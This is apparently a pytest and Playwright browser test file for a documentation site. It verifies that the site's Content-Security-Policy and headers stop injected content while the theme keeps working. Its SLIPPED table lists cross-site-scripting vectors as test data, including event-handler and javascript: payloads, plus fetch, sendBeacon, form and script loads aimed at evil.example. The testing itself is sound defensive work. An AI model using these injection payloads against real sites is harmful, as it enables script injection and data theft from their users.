"""The policy of the pages in a real browser: what would run is stopped, what we ship works.

With it are the headers that docs/versions.md asks a web server for: the server here sends exactly those.
"""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from mkdocs_ems.site.stubs import stub
from support.browsing import PATIENCE, served
from support.manuals import built, document, manual
from support.watched import Watch, watched

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not shutil.which("chromium"), reason="needs chromium: apt-get install chromium"),
]
DOCUMENTATION = Path(__file__).parents[2] / "docs" / "versions.md"
PAGE = "documents/PRO-002/index.html"
BODY = """\
# Heading

=== "One"

    first

=== "Two"

    second

??? note "More"
    closed

- [ ] task

![the flow](../PRO-001/files/flow.svg)

```python
def f(): return 1
```

```mermaid
graph LR
```
"""
_SCRIPT = "const one = document.createElement('script'); one.{}; body.append(one)"
_HTML = "body.insertAdjacentHTML('beforeend', `{}`)"
# What a hole in the sanitiser, the templates or the theme would let in, and the directive that forbids it.
SLIPPED: Mapping[str, tuple[str, str]] = {
    "script": (_SCRIPT.format("text = 'hook()'"), "script-src"),
    "script of another host": (_SCRIPT.format("src = 'https://evil.example/x.js'"), "script-src"),
    "script as data": (_SCRIPT.format("src = 'data:text/javascript,hook()'"), "script-src"),
    "handler": (_HTML.format("<img src=data:, onerror=hook()>"), "script-src"),
    "drawing": (_HTML.format("<svg onload=hook()></svg>"), "script-src"),
    "link": (_HTML.format("<a id=led href=javascript:hook()>x</a>") + "; led.click()", "script-src"),
    "words": ("setTimeout('hook()', 0)", "script-src"),
    "frame": (_HTML.format("<iframe src=https://evil.example/></iframe>"), "frame-src"),
    "picture": ("new Image().src = 'https://evil.example/x.png'", "img-src"),
    "request": ("fetch('https://evil.example/x').catch(() => 0)", "connect-src"),
    "beacon": ("navigator.sendBeacon('https://evil.example/x', 'x')", "connect-src"),
    "style sheet": (_HTML.format("<link rel=stylesheet href=https://evil.example/x.css>"), "style-src"),
    "font": ("new FontFace('x', 'url(https://evil.example/x.woff)').load().catch(() => 0)", "font-src"),
    "film": (_HTML.format("<video src=https://evil.example/x.mp4>"), "media-src"),
    "plugin": (_HTML.format("<object data=index.html></object>"), "object-src"),
    "base": (_HTML.format("<base href=https://evil.example/>"), "base-uri"),
    "form": (_HTML.format("<form id=sent action=https://evil.example/>") + "; sent.submit()", "form-action"),
}


def headers() -> Mapping[str, str]:
    """The headers that the documentation asks a web server for."""
    text = DOCUMENTATION.read_text("utf-8").partition("## Headers of a web server")[2]
    block = text.partition("```http\n")[2].partition("```")[0]
    found = {name: value for name, _, value in (line.partition(": ") for line in block.splitlines())}
    assert len(found) >= 4
    return found


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("policy") / "site"
    built(manual(document("PRO-002", title="Tabs", body=BODY)), folder)
    (folder / "moved").mkdir()
    (folder / "moved" / "index.html").write_bytes(stub(f"../{PAGE}"))
    return folder


@pytest.fixture(scope="module")
def server(site: Path) -> Iterator[str]:
    with served(site, headers=headers()) as address:
        yield address


@pytest.fixture(params=["server", "folder"])
def watch(request: pytest.FixtureRequest, browser: Browser, site: Path, server: str) -> Iterator[Watch]:
    """A tab in which the policy holds."""
    begin = server if request.param == "server" else f"{site.as_uri()}/"
    with watched(browser, begin) as tab:
        yield tab


def test_all_that_we_ship_works_under_the_policy_and_breaks_none_of_it(watch: Watch) -> None:
    page = watch.open(f"moved/index.html?a=b#{'heading'}")
    page.wait_for_url(f"**/{PAGE}?a=b#heading")
    _used(page)
    page.goto(f"{watch.begin}registers/aspects/index.html")
    page.get_by_label("Filter").fill("asp-002")
    expect(page.locator("tbody tr:visible")).to_have_count(1)
    if watch.begin.startswith("http"):
        page.goto(f"{watch.begin}404.html")
        expect(page.locator("h1")).to_be_visible()
    assert watch.wrong == []


def _used(page: Page) -> None:
    """Read, choose, search: whatever the theme's scripts do."""
    page.get_by_text("Two", exact=True).click()
    expect(page.get_by_text("second")).to_be_visible()
    page.locator("summary").click()
    expect(page.get_by_text("closed")).to_be_visible()
    assert page.locator("img[alt='the flow']").evaluate("(one) => one.naturalWidth") > 0
    before = page.locator("body").get_attribute("data-md-color-scheme")
    page.locator("form[data-md-component=palette] label").locator("visible=true").click()
    expect(page.locator("body")).not_to_have_attribute("data-md-color-scheme", before or "")
    page.locator(".md-search__input").click()
    page.locator(".md-search__input").fill("ASP-002")
    # The theme listens to keys.
    page.locator(".md-search__input").press("End")
    expect(page.locator(".md-search-result__link").first).to_contain_text("ASP-002 Solvent 2")


def test_what_slipped_into_a_page_is_stopped_and_told(watch: Watch) -> None:
    page = watch.open(PAGE)
    missed = []
    for name, (script, directive) in SLIPPED.items():
        watch.wrong.clear()
        page.evaluate(f"() => {{ const body = document.body; {script} }}")
        told = f"FORBIDDEN: {directive}"
        for _ in range(PATIENCE // 20):
            page.wait_for_timeout(20)
            if any(said.startswith(told) for said in watch.wrong):
                break
        else:
            missed.append((name, list(watch.wrong)))
        missed += [(name, [said]) for said in watch.wrong if said.startswith("FIRED")]
    assert missed == []


def test_nobody_shows_the_manual_in_a_page_of_theirs(browser: Browser, server: str, tmp_path: Path) -> None:
    (tmp_path / "index.html").write_text(f"<!doctype html><iframe src={server}{PAGE}></iframe>")
    with served(tmp_path) as address, watched(browser, address) as tab:
        tab.open("index.html")
        assert any("frame-ancestors" in said or "X-Frame-Options" in said for said in tab.wrong)


def test_a_file_is_never_taken_for_another_than_it_says(browser: Browser, server: str, site: Path) -> None:
    (site / "page.png").write_text("<!doctype html><script>hook()</script>")
    with watched(browser, server, bypass_csp=True) as tab:
        tab.open("page.png")
        assert not any("FIRED" in said for said in tab.wrong)
    (site / "page.png").unlink()


def test_the_documentation_names_the_policy_that_pages_bring_along(site: Path) -> None:
    html = (site / PAGE).read_text("utf-8")
    found = re.search(r'Content-Security-Policy" content="([^"]*)"', html)
    assert found
    policy = re.sub(r"'sha256-[^']*'(?: 'sha256-[^']*')*", "'sha256-…'", found[1])
    assert f"`{policy}`" in " ".join(DOCUMENTATION.read_text("utf-8").split())
